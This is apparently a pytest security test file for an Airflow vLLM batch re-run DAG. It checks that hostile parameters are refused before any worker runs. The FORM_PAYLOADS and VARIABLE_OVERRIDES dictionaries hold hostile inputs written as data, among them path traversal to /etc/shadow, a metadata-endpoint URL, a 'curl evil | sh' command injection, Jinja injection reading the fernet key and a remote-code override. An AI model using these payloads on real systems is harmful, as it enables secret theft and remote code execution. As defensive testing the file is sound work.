"""Security through the real DAGs: Airflow's param validation and the plan task refuse malicious
values before any shard task (and so any worker process or pod spec) exists."""

from __future__ import annotations

import json
import subprocess

import pytest

from tests.support.airflow_env import tail
from tests.support.data import write_parquet
from tests.support.ledger import record_malicious

pytestmark = pytest.mark.reliability
RERUN = "vllm_batch_rerun"


def nightly_root(box):  # a nightly job's root inside the re-run DAG's output folder
    return box.data / "reruns" / "nightly-only"


FORM_PAYLOADS = {
    "input_uri dotdot": {"input_uri": "/data/in/../../etc/shadow"},
    "input_uri encoded": {"input_uri": "s3://data/in/%2e%2e/secret"},
    "input_uri scheme": {"input_uri": "http://169.254.169.254/latest/meta-data"},
    "output_uri file trick": {"output_uri": "file:/etc"},
    "model shell": {"model": "tiny; curl evil | sh"},
    "labels jinja": {"labels": ["billing", "{{ conf.get('core', 'fernet_key') }}"]},
    "labels oversized": {"labels": [f"label{i}" for i in range(300)]},
    "system_prompt jinja": {"system_prompt": "{% for x in range(10**9) %}x{% endfor %}"},
}


def test_rerun_form_refuses_malicious_params(airflow_sandbox):
    box = airflow_sandbox
    runs_before = len(box.inspect(RERUN)["runs"])
    # Each payload is its own `airflow dags trigger`, through the CLI's own parser and command, in one process
    # (tests/airflow/cli_many.py): Airflow's start-up once, not once per payload.
    conf = {"input_uri": str(box.data / "adhoc")}
    results = box.cli_many(
        *(["dags", "trigger", RERUN, "-c", json.dumps({**conf, **bad})] for bad in FORM_PAYLOADS.values()),
        serialize=True,
    )
    rejected = 0
    for name, result in zip(FORM_PAYLOADS, results):
        assert not result["ok"] and "Invalid input for param" in result["error"], f"{name}: {result}"
        rejected += 1
    assert len(box.inspect(RERUN)["runs"]) == runs_before  # no run, so no task, no worker
    record_malicious("dag_form", len(FORM_PAYLOADS), rejected)


SECRET = "hf_SENTINELdagtestK3v9"
HOSTILE_CONF = {  # values the form's schemas accept, refused by the deployment's rules in plan
    "model path outside the allow-list": ({"model": "/etc/ssl"}, "model.name=/etc/ssl is outside the allowed"),
    "another team's bucket": ({"input_uri": "s3://other-team/tickets/"}, "io.input_uri=s3://other-team/tickets"),
    "compare with another team's run": (
        {"compare_with": "s3://other-team/runs/dt=1/"},
        "changes.previous_uri=s3://other-team/runs/dt=1 is outside",
    ),
}
VARIABLE_OVERRIDES = {
    "sampling.max_tokens": 32,
    "model.trust_remote_code": True,
    "engine.engine_kwargs": {"compilation_config": {"backend": "evil.module.compile"}},
}


@pytest.fixture(scope="module")
def refused_runs(airflow_sandbox, tmp_path_factory) -> dict[str, tuple[subprocess.CompletedProcess, str]]:
    """Every re-run below that plan must refuse, as ``airflow dags test`` runs one after the other in one
    process (tests/airflow/cli_many.py; each with its own environment and log): name -> (how the command
    ended, its run id). Each test asserts on its own run."""
    box = airflow_sandbox
    outside = tmp_path_factory.mktemp("outside")
    write_parquet(outside / "part-0.parquet", ["a", "b"], ["one", "two"])
    for name in ("closed", "hostile", "trc"):
        write_parquet(box.data / name / "part-0.parquet", ["a", "b"], ["one", "two"])
    runs = {  # name -> (date, conf, env); a date of its own each (`dags test` replaces a run of the same date)
        # A well-formed path the form accepts, outside the deployment's allow-list; a secret in the environment.
        "allow-list": (
            "2026-10-01",
            {"input_uri": str(outside)},
            {"AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES": json.dumps([str(box.data)]), "HF_TOKEN": SECRET},
        ),
        # The default deployment: no allow-list at all.
        "no allow-list": (
            "2026-10-02",
            {"input_uri": str(box.data / "closed")},
            {"AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES": ""},
        ),
        **{
            name: (f"2026-10-0{3 + i}", {"input_uri": str(box.data / "hostile"), **conf}, {})
            for i, (name, (conf, _)) in enumerate(sorted(HOSTILE_CONF.items()))
        },
        # A triggered run (dags test makes a manual run) claims tomorrow's folder of a nightly job (one whose root
        # lies inside the re-run DAG's output_under, so that scheduled_output_prefixes is what stops it).
        "claim": (
            "2026-10-07",
            {"input_uri": str(box.data / "hostile"), "output_uri": str(nightly_root(box) / "dt=2099-01-01")},
            {"AIRFLOW__VLLM_BATCH__SCHEDULED_OUTPUT_PREFIXES": str(nightly_root(box))},
        ),
        # The same claim on a deployment that lists no scheduled prefixes: the re-run DAG's output_under stops it.
        "outside": (
            "2026-10-09",
            {
                "input_uri": str(box.data / "hostile"),
                "output_uri": str(box.data / "reclassification" / "dt=2099-01-01"),
            },
            {},
        ),
        # A Variable more people can edit asks for remote code, even where the deployment allows remote code.
        "variable": (
            "2026-10-06",
            {"input_uri": str(box.data / "trc")},
            {
                "AIRFLOW_VAR_VLLM_BATCH_SPEC_OVERRIDES": json.dumps(VARIABLE_OVERRIDES),
                "AIRFLOW__VLLM_BATCH__ALLOW_REMOTE_CODE": "True",
            },
        ),
        # Variables more people can edit turn QA's gates off (errors up to 90% pass) and the review of a 'warn'
        # off (the sandbox's vllm_batch_human_review=false), in a deployment that did not let Variables loosen QA.
        "qa variable": (
            "2026-10-08",
            {"input_uri": str(box.data / "hostile")},
            {
                "AIRFLOW_VAR_VLLM_BATCH_SPEC_OVERRIDES": json.dumps(
                    {"sampling.max_tokens": 32, "qa.fail_error_rate": 0.9}
                ),
                "AIRFLOW__VLLM_BATCH__QA_SETTINGS_FROM_VARIABLES": "False",
            },
        ),
    }
    before = len(box.inspect(RERUN)["runs"])
    done = box.dags_test_many(*((RERUN, date, conf, env) for date, conf, env in runs.values()))
    run_ids = [r["run_id"] for r in box.inspect(RERUN)["runs"][before:]]
    assert len(run_ids) == len(runs), run_ids  # one run per command, in the order given
    return {name: (p, run_id) for name, p, run_id in zip(runs, done, run_ids)}


def _plan_refused(box, p: subprocess.CompletedProcess, run_id: str, message: str) -> None:
    """The run's plan failed on its first try (terminal), no shard ran, nothing was planned."""
    from airflow_provider_vllm.task_groups.batch_job import TEMPLATE_FILTERS

    out = p.stdout + p.stderr
    assert p.returncode != 0 and message in out, tail(p, 4000)
    db = box.inspect(RERUN)
    tis = {t["task_id"].split(".")[-1]: t for t in db["tis"] if t["run_id"] == run_id}
    assert tis["plan"]["state"] == "failed" and tis["plan"]["try_number"] == 1  # terminal, no retry
    assert tis["shard"]["state"] == "upstream_failed"
    assert not (box.data / "reruns" / TEMPLATE_FILTERS["path_safe"](run_id) / "_plan.json").exists()


def test_plan_task_refuses_a_path_outside_the_deployment_allow_list(airflow_sandbox, refused_runs):
    """A well-formed path the form accepts, outside ``[vllm_batch] allowed_uri_prefixes``: plan fails, no shard runs."""
    p, run_id = refused_runs["allow-list"]
    _plan_refused(airflow_sandbox, p, run_id, "outside the allowed prefixes")
    assert SECRET not in p.stdout + p.stderr  # the task logs never show the environment's secrets
    record_malicious("dag_allow_list", 1, 1)


def test_rerun_dag_fails_closed_without_an_allow_list(airflow_sandbox, refused_runs):
    """The default deployment: no [vllm_batch] allowed_uri_prefixes -> plan refuses, naming the setting."""
    p, run_id = refused_runs["no allow-list"]
    _plan_refused(
        airflow_sandbox, p, run_id, "no allowed locations are configured: set [vllm_batch] allowed_uri_prefixes"
    )
    record_malicious("dag_no_allow_list", 1, 1)


@pytest.mark.parametrize("name", sorted(HOSTILE_CONF))
def test_rerun_dag_refuses_a_hostile_conf_in_plan(airflow_sandbox, refused_runs, name):
    p, run_id = refused_runs[name]
    _plan_refused(airflow_sandbox, p, run_id, HOSTILE_CONF[name][1])
    record_malicious("dag_hostile_conf", 1, 1)


def test_a_variable_cannot_turn_on_remote_code_without_the_deployments_opt_in(airflow_sandbox, refused_runs):
    """vllm_batch_spec_overrides (a Variable more people can edit) sets trust_remote_code and a code-loading
    compile backend; even with [vllm_batch] allow_remote_code the plan refuses: it came from a Variable."""
    p, run_id = refused_runs["variable"]
    _plan_refused(airflow_sandbox, p, run_id, "model.trust_remote_code is deployment-owned and came from a Variable")
    assert "engine.engine_kwargs.compilation_config.backend is deployment-owned" in p.stdout + p.stderr
    record_malicious("dag_variable_remote_code", 2, 2)


def test_a_triggered_run_cannot_claim_a_prefix_only_scheduled_runs_write(airflow_sandbox, refused_runs):
    """[vllm_batch] scheduled_output_prefixes names a nightly job's root: a triggered re-run whose output prefix is
    tomorrow's date folder there fails its plan, and nothing is written that would stop tomorrow's scheduled run."""
    p, run_id = refused_runs["claim"]
    _plan_refused(airflow_sandbox, p, run_id, "which only runs Airflow schedules may write")
    assert "this run is manual" in p.stdout + p.stderr
    assert not nightly_root(airflow_sandbox).exists()
    record_malicious("dag_claim_scheduled_prefix", 1, 1)


def test_the_rerun_form_cannot_write_outside_the_rerun_folder_even_without_scheduled_prefixes(
    airflow_sandbox, refused_runs
):
    """The default deployment lists no [vllm_batch] scheduled_output_prefixes: a re-run whose form names a nightly's
    next date (inside the allow-list) still fails its plan, on the DAG file's output_under, and writes nothing there."""
    p, run_id = refused_runs["outside"]
    _plan_refused(airflow_sandbox, p, run_id, "where this DAG's runs write (output_under, set in the DAG file)")
    assert not (airflow_sandbox.data / "reclassification" / "dt=2099-01-01").exists()
    record_malicious("dag_rerun_output_outside", 1, 1)


def test_a_variable_cannot_loosen_qa_or_turn_the_review_off_without_the_deployments_opt_in(
    airflow_sandbox, refused_runs
):
    """vllm_batch_spec_overrides raises qa.fail_error_rate over the spec default and vllm_batch_human_review turns
    the review off: a wrong label would be published without anyone looking. The plan refuses both, naming them."""
    p, run_id = refused_runs["qa variable"]
    _plan_refused(airflow_sandbox, p, run_id, "qa.fail_error_rate=0.9 from Variables loosens the spec default 0.05")
    out = p.stdout + p.stderr
    assert "the review's ask" in out and "is false from Variables" in out
    assert "[vllm_batch] qa_settings_from_variables = True" in out
    record_malicious("dag_variable_loosens_qa", 2, 2)
